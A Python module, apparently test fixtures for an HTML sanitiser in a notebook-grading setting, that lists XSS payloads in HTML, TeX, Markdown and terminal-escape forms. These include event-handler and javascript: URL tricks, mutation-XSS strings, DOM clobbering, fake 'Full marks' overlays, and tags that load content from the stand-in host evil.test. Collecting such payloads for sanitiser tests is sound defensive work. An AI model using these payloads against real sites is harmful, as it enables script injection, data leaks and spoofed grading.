"""What a hostile submission could show, as text of each kind.

A payload that runs calls `pwned()`; one that loads something asks `evil.test` for it. `{n}` is
its number. Where they come from: the classics of the OWASP cheat sheet on filter evasion, of
DOMPurify's and bleach's tests (mutations), and what nbconvert's and nbgrader's templates let in.
"""

from __future__ import annotations

HTML = [
    # Scripts.
    "<script>pwned({n})</script>",
    "<ScRiPt src=//evil.test/{n}.js></sCrIpT>",
    "<script\x20type=module>pwned({n})</script>",
    "<<script>pwned({n})//<</script>",
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'></noscript>",
    # Event handlers.
    "<img src=x onerror=pwned({n})>",
    "<img/src=x/onerror=pwned({n})>",
    "<svg onload=pwned({n})>",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s></svg>",
    "<body onload=pwned({n})>",
    "<details open ontoggle=pwned({n})>x</details>",
    "<input autofocus onfocus=pwned({n})>",
    "<video><source onerror=pwned({n})></video>",
    "<marquee onstart=pwned({n})>x</marquee>",
    "<p style='animation:x' onanimationstart=pwned({n})>x</p>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=pwned({n})>x</p>",
    # Addresses that run.
    "<a href=javascript:pwned({n})>x</a>",
    "<a href='jav&#x09;ascript:pwned({n})'>x</a>",
    "<a href=' &#14; javascript:pwned({n})'>x</a>",
    "<a href='data:text/html,<script>parent.pwned({n})</script>'>x</a>",
    "<a href='vbscript:pwned({n})'>x</a>",
    "<form action=javascript:pwned({n})><button>x</button></form>",
    "<form id=f{n}></form><button form=f{n} formaction=javascript:pwned({n})>x</button>",
    "<math href=javascript:pwned({n})>x</math>",
    "<svg><a xlink:href=javascript:pwned({n})><text x=9 y=9>x</text></a></svg>",
    # Frames, objects, and the page itself.
    "<iframe src=javascript:parent.pwned({n})></iframe>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<iframe src=//evil.test/{n}></iframe>",
    "<object data=javascript:pwned({n})></object>",
    "<object data=//evil.test/{n}></object>",
    "<embed src=//evil.test/{n}>",
    "<meta http-equiv=refresh content='9;url=//evil.test/{n}'>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/{n}.css>",
    "<link rel=preload as=image href=//evil.test/{n}>",
    # Style.
    "<style>body{display:none}</style>",
    "<style>@import '//evil.test/{n}.css';</style>",
    "<div style='background:url(//evil.test/{n})'>x</div>",
    "<div style='background-color:red;background-image:url(//evil.test/{n})'>x</div>",
    "<div style='width:expression(pwned({n}))'>x</div>",
    "<div style='position:fixed;inset:0;z-index:9999;background:white'>Full marks</div>",
    "<div class='navbar-fixed-top modal-backdrop'>Full marks</div>",
    "<p style='font-family:&quot;;}</style><script>pwned({n})</script>'>x</p>",
    # Things that phone home.
    "<img src=//evil.test/{n}.png>",
    "<img srcset='//evil.test/{n}.png 1x'>",
    "<picture><source srcset=//evil.test/{n}.png><img></picture>",
    "<video poster=//evil.test/{n}.png autoplay src=//evil.test/{n}.mp4></video>",
    "<table background=//evil.test/{n}.png><tr><td>x</table>",
    "<input type=image src=//evil.test/{n}.png>",
    "<svg><image href=//evil.test/{n}.png></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>"
    "<image href=//evil.test/{n}.png /></svg>#x'></svg>",
    # Mutations: harmless as parsed once, not as parsed again.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=pwned({n})&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned({n})>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwned({n})>'>",
    "<noembed><img title='</noembed><img src=x onerror=pwned({n})>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=pwned({n})>'></xmp>",
    "<title><p title='</title><img src=x onerror=pwned({n})>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=pwned({n})>'></textarea>",
    "<select><template><style><!--</style></template></select><img src=x onerror=pwned({n})>",
    "<template><img src=x onerror=pwned({n})></template>",
    "<!--><img src=x onerror=pwned({n})>-->",
    "<![CDATA[><img src=x onerror=pwned({n})>]]>",
    "<?xml ><img src=x onerror=pwned({n})>?>",
    # Out of the place that is theirs, and into names that the page uses.
    "</div></div></div></div></div></section></main><h1>Full marks</h1>",
    "</pre></code></textarea></script></style><img src=x onerror=pwned({n})>",
    "<input id=why class=score value=3><a id=statusmessage data-link=x>x</a>",
    "<form name=querySelector><input name=cookie></form>",
    # What libraries of the page would run.
    "<div data-toggle=tooltip data-html=true title='<img src=x onerror=pwned({n})>'>x</div>",
    "<script type='text/x-mathjax-config'>pwned({n})</script>",
    "<script type='math/tex'>\\href{javascript:pwned({n})}{x}</script>",
    "<script type='application/vnd.jupyter.widget-view+json'>{}</script>",
]

TEX = [
    r"\href{javascript:pwned({n})}{x}",
    r"\require{html}\style{position:fixed}{x}",
    r"\class{score}{x}\cssId{why}{x}",
    r"\def\x{\href}\x{javascript:pwned({n})}{x}",
    r"\mmlToken{mi}[href='javascript:pwned({n})']{x}",
    r"</span><img src=x onerror=pwned({n})>",
    r"\begin{a}<img src=x onerror=pwned({n})>\end{a}",
]

MARKDOWN = [
    "[x](javascript:pwned({n}))",
    "[x](JAVASCRIPT&colon;pwned({n}))",
    "[x](java&NewLine;script:pwned({n}))",
    "[x](<javascript:pwned({n})>)",
    "[x][a{n}]\n\n[a{n}]: javascript:pwned({n})",
    "<javascript:pwned({n})>",
    "[x](data:text/html,<script>pwned({n})</script>)",
    '[x](https://example.org "a\' onmouseover=pwned({n}) b")',
    "![x](//evil.test/{n}.png)",
    "![x](https://evil.test/{n}.png)",
    "![x](attachment:x{n}.png)",
    "![x](x' onerror='pwned({n}))",
    "```mermaid\n<img src=x onerror=pwned({n})>\n```",
    '```x"><img/src=x/onerror=pwned({n})>\ncode\n```',
    "~~~~\n</code></pre><img src=x onerror=pwned({n})>\n~~~~",
    "    </code></pre><img src=x onerror=pwned({n})>",
    "`</code><img src=x onerror=pwned({n})>`",
    "| a |\n|---|\n| <img src=x onerror=pwned({n})> |",
    "# <img src=x onerror=pwned({n})>",
    "# why",
    "&lt;img src=x onerror=pwned({n})&gt;",
    "`````\n````\n<img src=x onerror=pwned({n})>\n",
    "$$<img src=x onerror=pwned({n})>$$",
    "\\\\[<img src=x onerror=pwned({n})>\\\\]",
    "- [ ] <svg onload=pwned({n})>",
]

TEXT = [
    "\x1b[31m<img src=x onerror=pwned({n})>\x1b[0m",
    "</pre><script>pwned({n})</script>",
    "\x1b]8;;javascript:pwned({n})\x07x\x1b]8;;\x07",
    '\x1b[38;2;"><script>pwned({n})</script>m',
    "\u202e\x00<svg/onload=pwned({n})>",
]
